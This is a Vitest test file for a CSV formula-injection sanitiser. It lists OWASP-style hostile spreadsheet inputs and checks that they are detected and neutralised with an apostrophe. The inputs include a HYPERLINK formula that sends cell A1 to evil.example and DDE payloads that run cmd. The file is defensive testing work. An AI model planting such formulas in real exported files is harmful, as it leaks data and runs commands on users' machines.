import { describe, expect, it } from "vitest";
import { neutraliseCsvText, startsLikeFormula } from "../../../shared/spreadsheet/formula-injection";

/** OWASP CSV Injection examples and the variants issue 12 found unprefixed. */
const DANGEROUS = [
  "=1+1",
  "=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\tplain after a tab",
  "\rplain after a carriage return",
  "\nplain after a line feed",
  " =1+1",
  "   @SUM(1,1)",
  "\u3000=1+1",
  "\uFF1D1+1",
  "\uFF0B1",
  "\uFF0D1",
  "\uFF20SUM(1,1)",
  " \uFF1D1+1",
];

const HARMLESS = ["", "Risk owner", "A.5.2", "GOVERN 1.1", "1+1", "a=b", "e-mail", " plain with a space", "'=already quoted", "50%", "2026-06-30"];

describe("spreadsheet formula injection", () => {
  it.each(DANGEROUS)("treats %j as a formula start", (text) => {
    expect(startsLikeFormula(text)).toBe(true);
  });

  it.each(HARMLESS)("leaves %j alone", (text) => {
    expect(startsLikeFormula(text)).toBe(false);
    expect(neutraliseCsvText(text)).toBe(text);
  });

  it("prefixes dangerous CSV text with an apostrophe and keeps the rest of it", () => {
    for (const text of DANGEROUS) expect(neutraliseCsvText(text)).toBe(`'${text}`);
  });
});
